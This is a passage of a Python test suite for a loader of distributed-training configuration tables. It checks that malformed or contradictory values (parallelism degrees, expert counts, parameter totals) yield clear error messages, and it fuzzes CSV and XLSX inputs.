        'column "gpu"',
        "H100-SMX is not in the catalogue",
        "ledger-report gpus",
        "hbm_gb = empty, peak_tflops = empty",
        "did you mean H100-SXM?",
    )


def test_problems_are_collected(tmp_path):
    """All bad cells of all rows are reported together."""
    message = error_of(write_csv(tmp_path, "name,params_total,dp\na,x,1\nb,7B,0\n,7B,1\n"))
    assert_names(
        message,
        "line 2",
        "line 3",
        "line 4",
        'column "params_total"',
        'column "dp"',
        'column "name"',
    )


def test_duplicate_names_name_both_rows(tmp_path):
    """`name` is unique in the file (case and width insensitive); both rows are named."""
    message = error_of(write_csv(tmp_path, "name,params_total\nLlama,7B\nb,7B\nllama ,8B\n"))
    assert_names(message, "line 4", 'column "name"', '"llama "', "first at line 2")


# --- cross-column contradictions -------------------------------------------------------------

CROSS = [
    # id, extra columns, column named, found text
    (
        "arch-partial",
        {"params_total": "", "layers": 32, "hidden": 4096},
        "heads",
        "heads empty, params_total empty",
    ),
    (
        "no-params",
        {"params_total": ""},
        "params_total",
        "params_total and all the architecture columns empty",
    ),
    ("ep-divides", {"dp": 4, "tp": 2, "ep": 3}, "ep", "ep = 3"),
    ("etp-divides", {"dp": 3, "etp": 2}, "etp", "etp = 2"),
    ("experts-by-ep", {"dp": 8, "ep": 8, "experts": 12, "topk": 2}, "experts", "experts = 12"),
    ("topk-gt-experts", {"experts": 8, "topk": 10}, "topk", "topk = 10"),
    ("topk-missing", {"experts": 8}, "topk", "topk empty"),
    ("topk-without-experts", {"topk": 2}, "topk", "topk = 2 with experts empty"),
    ("tp-heads", {"heads": 32, "tp": 3}, "tp", "tp = 3"),
    ("tp-kv-heads", {"heads": 32, "kv_heads": 4, "tp": 8}, "tp", "tp = 8"),
    ("kv-divides-heads", {"heads": 32, "kv_heads": 5}, "kv_heads", "kv_heads = 5"),
    ("hidden-by-heads", {"hidden": 4000, "heads": 48}, "hidden", "hidden = 4,000"),
    ("pp-layers", {"layers": 2, "pp": 4}, "pp", "pp = 4"),
    (
        "seq-sp",
        {"seq_len": 1000, "tp": 8, "cp": 2, "sequence_parallel": "true"},
        "seq_len",
        "seq_len = 1,000",
    ),
    (
        "params-contradict",
        {
            "layers": 80,
            "hidden": 8192,
            "heads": 64,
            "kv_heads": 8,
            "ffn_hidden": 28672,
            "vocab": 128256,
            "params_total": "7B",
        },
        "params_total",
        "params_total = 7,000,000,000",
    ),
    ("cp-seq", {"seq_len": 8192, "cp": 3}, "cp", "cp = 3"),
    ("ep-dense", {"dp": 2, "ep": 2}, "ep", "ep = 2"),
    (
        "tp-ffn",
        {
            "layers": 32,
            "hidden": 4096,
            "heads": 32,
            "ffn_hidden": 14337,
            "vocab": 32000,
            "tp": 2,
            "params_total": "",
        },
        "tp",
        "tp = 2",
    ),
    (
        "global-batch",
        {"global_batch": 100, "micro_batch": 2, "dp": 8},
        "global_batch",
        "global_batch = 100",
    ),
    ("expert-gt-total", {"params_expert": "8B"}, "params_expert", "params_expert = 8,000,000,000"),
    ("active-gt-total", {"params_active": "9B"}, "params_active", "params_active = 9,000,000,000"),
    (
        "per-rank-no-total",
        {"params_total": "", "params_per_rank": "1B", "dp": 2, "ep": 2},
        "params_per_rank",
        "ep = 2 with params_total empty",
    ),
    (
        "per-rank-unsolvable",
        {"params_per_rank": "1B", "dp": 2, "tp": 2, "ep": 2, "etp": 1},
        "params_per_rank",
        "ep·etp = 2·1 = 2 = tp",
    ),
    ("megatron-zero2", {"framework": "megatron", "zero": 2}, "zero", "zero = 2"),
    ("reserve-days", {"days": 30, "reserve_days": 30}, "reserve_days", "reserve_days = 30"),
]


@pytest.mark.parametrize("extra,column,found", [c[1:] for c in CROSS], ids=[c[0] for c in CROSS])
def test_cross_column_contradictions(tmp_path, extra, column, found):
    """Each contradiction names line, column(s), the expectation with its numbers, and the values."""
    row = {"name": "m", "params_total": "7B", **extra}
    if {"layers", "hidden", "heads"} & set(extra) and column not in ("heads", "params_total"):
        # complete the architecture (Llama-2-7B's, which counts its own parameters)
        row = {
            "layers": 32,
            "hidden": 4096,
            "heads": 32,
            "ffn_hidden": 11008,
            "vocab": 32000,
            **row,
            "params_total": "",
        }
    text = ",".join(row) + "\n" + ",".join(str(v) for v in row.values()) + "\n"
    message = error_of(write_csv(tmp_path, text))
    assert_names(message, "line 2", f'column "{column}"', found)


def test_cross_messages_carry_numbers(tmp_path):
    """The ep message shows dp·cp·tp/etp with the numbers."""
    message = error_of(write_csv(tmp_path, "name,params_total,dp,tp,ep\nm,7B,4,2,3\n"))
    assert_names(message, "expected ep to divide dp·cp·tp/etp = 4·1·2/2 = 4", "found ep = 3")


def test_cross_checks_skip_bad_cells(tmp_path):
    """A bad ep cell is reported once, not again as a contradiction with a default."""
    message = error_of(write_csv(tmp_path, "name,params_total,dp,ep\nm,7B,4,three\n"))
    assert message.count("\n") == 0


def test_consistent_moe_row_passes(tmp_path):
    """A consistent MoE layout raises nothing."""
    text = "name,params_total,dp,tp,ep,etp,experts,topk,cp\nm,47B,8,2,8,1,64,2,2\n"
    assert read_configs(write_csv(tmp_path, text))[0].get("ep") == 8


# --- Hypothesis: nothing but InputError ------------------------------------------------------

CELLS = st.one_of(
    st.text(max_size=12),
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.sampled_from(
        [
            "",
            "NA",
            "7B",
            "1,024",
            "3,5",
            "40%",
            "true",
            "bf16",
            "#N/A",
            "=1+1",
            "1e400",
            "０x1",
            "８Ｂ",
            " ",
            '"',
            "\x00",
        ]
    ),
)
HEADERS = st.lists(st.sampled_from(COLUMN_NAMES + ("bogus", "", " Name ")), min_size=1, max_size=8)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    header=HEADERS,
    rows=st.lists(st.lists(CELLS, max_size=9), max_size=5),
    delimiter=st.sampled_from([",", ";", "\t"]),
)
@pytest.mark.slow
def test_hypothesis_csv_only_input_error(header, rows, delimiter):
    """Random text/number cells in random columns never raise anything but InputError."""
    import csv
    import io

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.csv"
        path.write_text(buffer.getvalue(), encoding="utf-8")
        try:
            configs = read_configs(path)
        except InputError as exc:
            assert str(exc)
        else:
            assert all(c.name for c in configs)


XLSX_CELLS = st.one_of(
    CELLS.filter(lambda s: not s.startswith("=")),
    st.integers(min_value=-(10**17), max_value=10**17),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.none(),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(header=HEADERS, rows=st.lists(st.lists(XLSX_CELLS, max_size=9), max_size=4))
@pytest.mark.slow
def test_hypothesis_xlsx_only_input_error(header, rows):
    """The same property through a workbook (typed cells: numbers, booleans, empty)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Inputs"
    for r, values in enumerate([header] + rows, start=1):
        for c, value in enumerate(values, start=1):
            if isinstance(value, str) and cells.CONTROL_CHARS.search(value):
                value = value.encode("unicode_escape").decode()  # openpyxl refuses to store them
            cell = ws.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzz.xlsx"
        wb.save(path)
        try:
            read_configs(path)
        except InputError as exc:
            assert str(exc)
